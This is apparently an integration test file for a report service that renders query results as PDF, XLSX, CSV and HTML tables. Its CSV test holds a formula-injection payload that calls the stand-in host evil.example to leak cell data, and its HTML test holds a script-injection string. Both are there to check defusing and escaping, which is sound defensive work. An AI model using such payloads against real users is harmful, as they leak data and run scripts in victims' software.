import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import { extractText, getDocumentProxy } from 'unpdf'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import { DataSources } from '../../src/activities/data/data-sources.js'
import { createDataActivities } from '../../src/activities/data/run-query.js'
import { readRows, renderInlineHtmlTable } from '../../src/activities/render/inline-table.js'
import { createRenderActivities } from '../../src/activities/render/render-report.js'
import { slugify } from '../../src/activities/render/report-file.js'
import { LocalArtifactStore } from '../../src/artifacts/local-artifact-store.js'
import { connectDatabase, type Database } from '../../src/db/client.js'
import type { Attachment, QueryResult, RenderInput } from '../../src/domain/report-data.js'
import type { RunContext } from '../../src/domain/run.js'
import type { ReportFormat } from '../../src/domain/schedule.js'

let db: Database
let dir: string
let artifacts: LocalArtifactStore
let dataSources: DataSources
let query: ReturnType<typeof createDataActivities>['runQuery']
let render: ReturnType<typeof createRenderActivities>['renderReport']

const run: RunContext = {
  scheduleId: 'sch-render',
  scheduleName: 'Umsatz Łódź & Zürich',
  runId: 'run-render',
  // 23:30 UTC is already the next day in Berlin: the filename must use the local date.
  fireTime: '2024-03-01T23:30:00.000Z',
  periodStart: '2024-02-29T23:30:00.000Z',
  periodEnd: '2024-03-01T23:30:00.000Z',
  timezone: 'Europe/Berlin',
}

/** Orders with their region, oldest first: several PDF pages, Unicode names, all column types. */
const ORDERS_SQL = `SELECT o.id AS order_id, r.name AS region, o.quantity, o.amount,
         o.ordered_at, o.ordered_at::date AS order_day, o.status = 'paid' AS paid
    FROM demo.orders o JOIN demo.customers c ON c.id = o.customer_id JOIN demo.regions r ON r.id = c.region_id
   WHERE o.id <= 400 ORDER BY (r.name = 'Łódź') DESC, o.id`

async function runQuery(sql: string): Promise<QueryResult> {
  return query({ run, query: { dataSource: 'default', sql, params: {} } })
}

function renderInput(
  result: QueryResult,
  format: ReportFormat,
  extra: Partial<RenderInput> = {},
): RenderInput {
  return {
    run,
    format,
    resultRef: result.resultRef,
    columns: result.columns,
    rowCount: result.rowCount,
    conditionSummary: 'always send',
    csvBom: false,
    ...extra,
  }
}

async function contentOf(attachment: Attachment): Promise<Buffer> {
  return readFile((await artifacts.localPath(attachment.artifactId))!)
}

beforeAll(async () => {
  db = connectDatabase(inject('databaseUrl'))
  dir = await mkdtemp(join(tmpdir(), 'herald-render-'))
  artifacts = new LocalArtifactStore({ dir, db })
  dataSources = new DataSources({ default: { url: inject('readerDatabaseUrl'), schemas: ['demo'] } })
  query = createDataActivities({
    dataSources,
    artifacts,
    defaults: { maxRows: 10_000, timeoutMs: 30_000 },
  }).runQuery
  render = createRenderActivities({ artifacts }).renderReport
})

afterAll(async () => {
  await dataSources.close()
  await db.end()
  await rm(dir, { recursive: true, force: true })
})

describe('PDF', () => {
  it('renders title, Unicode names, repeated headers and page numbers', async () => {
    const result = await runQuery(ORDERS_SQL)
    expect(result.rowCount).toBe(400)
    const attachment = await render(renderInput(result, 'pdf', { conditionSummary: 'row count > 0' }))
    expect(attachment).toMatchObject({
      format: 'pdf',
      contentType: 'application/pdf',
      filename: 'umsatz-lodz-zurich-2024-03-02.pdf',
    })
    const bytes = await contentOf(attachment)
    expect(attachment.size).toBe(bytes.length)
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-')

    const pdf = await getDocumentProxy(new Uint8Array(bytes))
    const { totalPages, text } = await extractText(pdf, { mergePages: false })
    expect(totalPages).toBeGreaterThan(2)
    const [first, second, last] = [text[0]!, text[1]!, text[totalPages - 1]!]
    expect(first).toContain('Umsatz Łódź & Zürich')
    expect(first).toContain('Period: 2024-03-01 00:30 – 2024-03-02 00:30 (Europe/Berlin)')
    expect(first).toContain('Condition: row count > 0')
    expect(first).toContain('Łódź')
    expect(first).toContain(`Page 1 of ${totalPages}`)
    for (const page of [second, last]) {
      for (const name of ['order_id', 'region', 'quantity', 'amount', 'ordered_at', 'order_day', 'paid']) {
        expect(page).toContain(name)
      }
    }
    expect(second).toContain(`Page 2 of ${totalPages}`)
    expect(last).toContain(`Page ${totalPages} of ${totalPages}`)
  })

  it('formats numbers, dates and times for reading', async () => {
    const result = await runQuery(`SELECT 1234567.5::numeric AS revenue, 9876543::int8 AS units,
      TIMESTAMPTZ '2024-07-01 10:05:00+00' AS at, DATE '2024-07-01' AS day, 'Øresund' AS region`)
    const pdf = await getDocumentProxy(
      new Uint8Array(await contentOf(await render(renderInput(result, 'pdf')))),
    )
    const { text } = await extractText(pdf, { mergePages: true })
    expect(text).toContain('1,234,567.50')
    expect(text).toContain('9,876,543')
    expect(text).toContain('2024-07-01 12:05') // Berlin summer time
    expect(text).toContain('Øresund')
    expect(text).toContain('Page 1 of 1')
  })

  it('says so when there are no rows', async () => {
    const result = await runQuery('SELECT id FROM demo.orders WHERE false')
    const pdf = await getDocumentProxy(
      new Uint8Array(await contentOf(await render(renderInput(result, 'pdf')))),
    )
    const { text } = await extractText(pdf, { mergePages: true })
    expect(text).toContain('No rows in this period.')
  })
})

describe('XLSX', () => {
  it('writes typed cells, formats, a bold frozen header and an autofilter', async () => {
    const result = await runQuery(ORDERS_SQL)
    const attachment = await render(renderInput(result, 'xlsx'))
    expect(attachment).toMatchObject({
      format: 'xlsx',
      filename: 'umsatz-lodz-zurich-2024-03-02.xlsx',
      contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    })
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.read(await artifacts.open(attachment.artifactId))
    const sheet = workbook.getWorksheet('Report')!
    expect(sheet.rowCount).toBe(401)

    const header = sheet.getRow(1)
    expect(header.values).toEqual([
      undefined,
      'order_id',
      'region',
      'quantity',
      'amount',
      'ordered_at',
      'order_day',
      'paid',
    ])
    expect(header.getCell(1).font?.bold).toBe(true)
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(sheet.autoFilter).toBe('A1:G401')

    const [raw] =
      await db`SELECT o.id, o.quantity, o.amount::float8 AS amount, o.ordered_at, o.status = 'paid' AS paid
      FROM demo.orders o JOIN demo.customers c ON c.id = o.customer_id JOIN demo.regions r ON r.id = c.region_id
      WHERE o.id <= 400 ORDER BY (r.name = 'Łódź') DESC, o.id LIMIT 1`
    const row = sheet.getRow(2)
    expect(row.getCell(1).value).toBe(Number(raw!.id))
    expect(row.getCell(2).value).toBe('Łódź')
    expect(row.getCell(3).value).toBe(raw!.quantity)
    expect(row.getCell(4).value).toBe(raw!.amount)
    expect(row.getCell(7).value).toBe(raw!.paid)
    const orderedAt = row.getCell(5).value
    expect(orderedAt).toBeInstanceOf(Date)
    // Shown as Berlin wall-clock time: the UTC fields of the stored date are the local time.
    const berlin = new Intl.DateTimeFormat('sv-SE', {
      timeZone: 'Europe/Berlin',
      dateStyle: 'short',
      timeStyle: 'short',
    }).format(raw!.ordered_at as Date)
    expect((orderedAt as Date).toISOString().slice(0, 16).replace('T', ' ')).toBe(berlin)
    expect(row.getCell(6).value).toBeInstanceOf(Date)

    expect(row.getCell(1).numFmt).toBe('#,##0')
    expect(row.getCell(4).numFmt).toBe('#,##0.00')
    expect(row.getCell(5).numFmt).toBe('yyyy-mm-dd hh:mm')
    expect(row.getCell(6).numFmt).toBe('yyyy-mm-dd')
    expect(sheet.getColumn(2).width).toBeGreaterThan(8)
  })

  it('stores text that looks like a formula as text', async () => {
    const result = await runQuery(`SELECT '=1+1' AS label`)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.read(await artifacts.open((await render(renderInput(result, 'xlsx'))).artifactId))
    const cell = workbook.getWorksheet('Report')!.getCell('A2')
    expect(cell.type).toBe(ExcelJS.ValueType.String)
    expect(cell.value).toBe('=1+1')
  })
})

describe('CSV', () => {
  it('quotes per RFC 4180 with CRLF line ends', async () => {
    const result = await runQuery(`SELECT * FROM (VALUES
        ('plain', 1.5::numeric, TIMESTAMPTZ '2024-01-15 08:00:00+00'),
        ('comma, inside', 2, NULL),
        ('say "hi"', NULL, NULL),
        (E'two\\nlines', 3, NULL)) AS t(label, amount, at)`)
    const attachment = await render(renderInput(result, 'csv'))
    expect(attachment).toMatchObject({
      contentType: 'text/csv; charset=utf-8',
      filename: 'umsatz-lodz-zurich-2024-03-02.csv',
    })
    const text = (await contentOf(attachment)).toString('utf8')
    expect(text).toBe(
      'label,amount,at\r\n' +
        'plain,1.5,2024-01-15T09:00:00+01:00\r\n' +
        '"comma, inside",2,\r\n' +
        '"say ""hi""",,\r\n' +
        '"two\nlines",3,\r\n',
    )
  })

  it('defuses text a spreadsheet would run as a formula, and leaves numbers alone', async () => {
    const result = await runQuery(`SELECT * FROM (VALUES
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', -12.5::numeric, '-3'),
        ('+1+1', 4, '@SUM(A1)'),
        (E'\\tcmd', 5, '-')) AS t("=label", amount, note)`)
    const text = (await contentOf(await render(renderInput(result, 'csv')))).toString('utf8')
    expect(text).toBe(
      "'=label,amount,note\r\n" +
        `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-12.5,-3\r\n` +
        "'+1+1,4,'@SUM(A1)\r\n" +
        "'\tcmd,5,'-\r\n",
    )
  })

  it('starts with a UTF-8 BOM only when asked', async () => {
    const result = await runQuery(`SELECT 'Łódź' AS region`)
    const withBom = await contentOf(await render(renderInput(result, 'csv', { csvBom: true })))
    expect([...withBom.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(withBom.subarray(3).toString('utf8')).toBe('region\r\nŁódź\r\n')
    const without = await contentOf(await render(renderInput(result, 'csv')))
    expect(without.toString('utf8')).toBe('region\r\nŁódź\r\n')
  })
})

describe('inline HTML table', () => {
  it('escapes cell text and shows the first rows only', async () => {
    const result = await runQuery(`SELECT * FROM (VALUES ('<script>alert("x")</script>', 1234.5::numeric),
      ('Tom & Jerry''s', 2), ('third', 3)) AS t(name, amount)`)
    const rows = await readRows(artifacts, result.resultRef, 2)
    expect(rows).toHaveLength(2)
    const html = renderInlineHtmlTable(result.columns, rows, 2)
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;')
    expect(html).not.toContain('<script>')
    expect(html).toContain('Tom &amp; Jerry&#39;s')
    expect(html).toContain('1,234.50')
    expect(html).not.toContain('third')
    expect(html).toContain('<th style="')
  })
})

describe('filenames', () => {
  it('slugs schedule names to ASCII', () => {
    expect(slugify('Umsatz Łódź (täglich) — Øresund/Straße')).toBe('umsatz-lodz-taglich-oresund-strasse')
    expect(slugify('!!!')).toBe('report')
  })
})
